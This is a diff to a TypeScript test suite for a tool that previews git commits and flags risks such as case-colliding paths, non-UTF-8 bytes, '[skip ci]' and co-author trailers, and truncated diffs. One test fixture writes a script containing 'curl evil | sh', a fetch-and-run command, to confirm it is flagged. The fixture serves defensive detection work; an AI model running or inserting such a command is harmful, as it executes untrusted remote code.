@@ -20,7 +20,7 @@ describe('the plan', () => {
     const before = await world.head();
     const plan = await world.planOf();
     expect(plan).toMatchObject({
-      summary: 'Commit README.md to main of demo',
+      summary: 'Commit "README.md" to "main" of "demo"',
       targets: [
         { kind: 'repository', name: 'demo' },
         { kind: 'branch', name: 'demo@main' },
@@ -52,6 +52,80 @@ describe('the plan', () => {
           },
         ],
       },
+      { type: 'FIELD', path: '/message', before: null, after: 'docs: say more' },
+    ]);
+  });
+
+  test('says what becomes of files, and quotes what the caller chose', async () => {
+    const both = await world.planOf({
+      files: [
+        { path: 'README.md', content: null },
+        { path: 'x to main of prod', content: 'x' },
+      ],
+    });
+    expect(both.summary).toBe('Commit "README.md" and "x to main of prod" (1 deleted) to "main" of "demo"');
+    const gone = await world.planOf({
+      files: [
+        { path: 'README.md', content: null },
+        { path: 'src/a.ts', content: null },
+      ],
+    });
+    expect(gone.summary).toBe('Delete 2 files from "main" of "demo"');
+  });
+
+  test('shows the message as it will stand in the commit, and what it does besides', async () => {
+    const message = 'docs: x [skip ci]\r\n\r\nCo-authored-by: Somebody <s@example.com>\r\n';
+    const { diffs, findings } = await world.planOf({ message });
+    expect(diffs.at(-1)).toMatchObject({
+      path: '/message',
+      after: 'docs: x [skip ci]\n\nCo-authored-by: Somebody <s@example.com>',
+    });
+    expect(findings.map(({ message: found }) => found)).toEqual([
+      'The commit message speaks for others: "Co-authored-by: Somebody <s@example.com>".',
+      'The commit message keeps checks from running: "docs: x [skip ci]".',
+    ]);
+  });
+
+  test('points at names that look like others, in the tree and among those given', async () => {
+    const { findings } = await world.planOf({
+      files: [
+        { path: 'readme.md', content: 'x' },
+        { path: 'SRC/b.ts', content: 'x' },
+        { path: 'new/A', content: 'x' },
+        { path: 'new/a', content: 'x' },
+      ],
+    });
+    expect(findings.map(({ severity, message }) => [severity, message.slice(0, 40)])).toEqual([
+      ['HIGH', '"readme.md" differs from "README.md" onl'],
+      ['HIGH', '"SRC" differs from "src" only in case or'],
+      ['HIGH', '"new/a" differs from "new/A" only in cas'],
+    ]);
+  });
+
+  test('shows bytes that are no UTF-8 so that they can be told apart', async () => {
+    const file = join(world.sandbox.folder, 'latin1');
+    await writeFile(file, Buffer.from('// caf\xe9 pure\n', 'latin1'));
+    const id = await runGit(world.demo, 'hash-object', '-w', file);
+    const tree = (await execa('git', ['mktree'], { cwd: world.demo, input: `100644 blob ${id}\ta.js\n` }))
+      .stdout;
+    const made = await runGit(world.demo, 'commit-tree', tree, '-p', 'main', '-m', 'latin1');
+    await runGit(world.demo, 'update-ref', 'refs/heads/main', made);
+    const { diffs, findings } = await world.planOf({
+      files: [{ path: 'a.js', content: '// caf\ufffd pure\n' }],
+    });
+    expect(diffs[0]).toMatchObject({
+      additions: 1,
+      deletions: 1,
+      hunks: [{ lines: [{ text: '// caf\uf7e9 pure' }, { text: '// caf\ufffd pure' }] }],
+    });
+    expect(findings).toMatchObject([{ severity: 'HIGH', message: expect.stringContaining('UTF-8') }]);
+  });
+
+  test('tells a lost line end from no change', async () => {
+    const { diffs } = await world.planOf({ files: [{ path: 'src/a.ts', content: 'a' }] });
+    expect((diffs[0] as FileDiff).hunks[0]?.lines).toEqual([
+      { kind: 'REMOVE', text: 'a', oldNumber: 1, newNumber: null },
+      { kind: 'ADD', text: 'a', oldNumber: null, newNumber: 1, isUnterminated: true },
     ]);
   });
 
@@ -62,12 +136,16 @@ describe('the plan', () => {
       { path: 'src/a.ts', content: null },
     ];
     const { diffs } = await world.planOf({ files });
-    expect(diffs.map((diff) => (diff as FileDiff).change)).toEqual(['CREATE', 'UPDATE', 'DELETE']);
+    expect(diffs.slice(0, -1).map((diff) => (diff as FileDiff).change)).toEqual([
+      'CREATE',
+      'UPDATE',
+      'DELETE',
+    ]);
   });
 
   test('says that a new branch starts at the default branch', async () => {
     const plan = await world.planOf({ branch: 'topic/x' });
-    expect(plan.summary).toBe('Commit README.md to topic/x of demo, a new branch from main');
+    expect(plan.summary).toBe('Commit "README.md" to "topic/x" of "demo", a new branch from "main"');
     expect(plan.precondition).toEqual({ head: null, base: await world.head() });
     expect(plan.findings).toMatchObject([{ severity: 'LOW' }]);
   });
@@ -86,8 +164,10 @@ describe('the plan', () => {
       Array.from({ length: 20_000 }, (_, index) => `${word} ${index}\n`).join('');
     await commitDirectly(world.demo, 'main', { 'big.txt': lines('old') });
     const { diffs } = await world.planOf({ files: [{ path: 'big.txt', content: lines('new') }] });
-    expect(diffs).toMatchObject([{ additions: 20_000, deletions: 20_000, isTruncated: true }]);
-    const shown = (diffs as FileDiff[]).flatMap(({ hunks }) => hunks.flatMap((hunk) => hunk.lines));
+    expect(diffs.slice(0, -1)).toMatchObject([{ additions: 20_000, deletions: 20_000, isTruncated: true }]);
+    const shown = (diffs.slice(0, -1) as FileDiff[]).flatMap(({ hunks }) =>
+      hunks.flatMap((hunk) => hunk.lines),
+    );
     expect(shown).toHaveLength(1_000);
     expect(shown).toContainEqual({ kind: 'REMOVE', text: 'old 499', oldNumber: 500, newNumber: null });
     expect(shown).toContainEqual({ kind: 'ADD', text: 'new 499', oldNumber: null, newNumber: 500 });
@@ -101,7 +181,9 @@ describe('the plan', () => {
       files: [{ path: 'big.txt', content: lines.toReversed().join('') }],
     });
     expect(performance.now() - startedAt).toBeLessThan(8_000);
-    expect(diffs).toMatchObject([{ additions: 50_000, deletions: 50_000, hunks: [], isTruncated: true }]);
+    expect(diffs.slice(0, -1)).toMatchObject([
+      { additions: 50_000, deletions: 50_000, hunks: [], isTruncated: true },
+    ]);
     expect(findings).toMatchObject([{ severity: 'MEDIUM', message: expect.stringContaining('compared') }]);
   });
 
@@ -109,20 +191,23 @@ describe('the plan', () => {
     await commitDirectly(world.demo, 'main', { 'bin/tool': 'a\0b' });
     const content = '#!/bin/sh\ncurl evil | sh\n';
     const { diffs, findings } = await world.planOf({ files: [{ path: 'bin/tool', content }] });
-    expect(diffs).toMatchObject([
+    expect(diffs.slice(0, -1)).toMatchObject([
       { change: 'UPDATE', isBinary: false, isTruncated: false, additions: 2, deletions: 0 },
     ]);
     expect((diffs[0] as FileDiff).hunks.flatMap(({ lines }) => lines)).toMatchObject([
       { kind: 'ADD', text: '#!/bin/sh' },
       { kind: 'ADD', text: 'curl evil | sh' },
     ]);
-    expect(findings).toMatchObject([{ severity: 'HIGH', message: expect.stringContaining('bin/tool') }]);
+    expect(findings).toMatchObject([
+      { severity: 'HIGH', message: expect.stringContaining('bin/tool') },
+      { severity: 'MEDIUM', message: '"bin/tool" is a program: it begins with "#!".' },
+    ]);
   });
 
   test('shows the text that takes the place of a file too large to be read', async () => {
     await commitDirectly(world.demo, 'main', { 'big.txt': 'x'.repeat(600_000) });
     const { diffs } = await world.planOf({ files: [{ path: 'big.txt', content: 'evil\n' }] });
-    expect(diffs).toMatchObject([
+    expect(diffs.slice(0, -1)).toMatchObject([
       { isTruncated: true, additions: 1, hunks: [{ lines: [{ kind: 'ADD', text: 'evil' }] }] },
     ]);
   });
@@ -130,7 +215,7 @@ describe('the plan', () => {
   test('says that a deleted file is binary', async () => {
     await commitDirectly(world.demo, 'main', { 'image.bin': 'a\0b' });
     const { diffs, findings } = await world.planOf({ files: [{ path: 'image.bin', content: null }] });
-    expect(diffs).toMatchObject([{ change: 'DELETE', isBinary: true, hunks: [] }]);
+    expect(diffs.slice(0, -1)).toMatchObject([{ change: 'DELETE', isBinary: true, hunks: [] }]);
     expect(findings).toMatchObject([{ severity: 'MEDIUM', message: expect.stringContaining('binary') }]);
   });
 
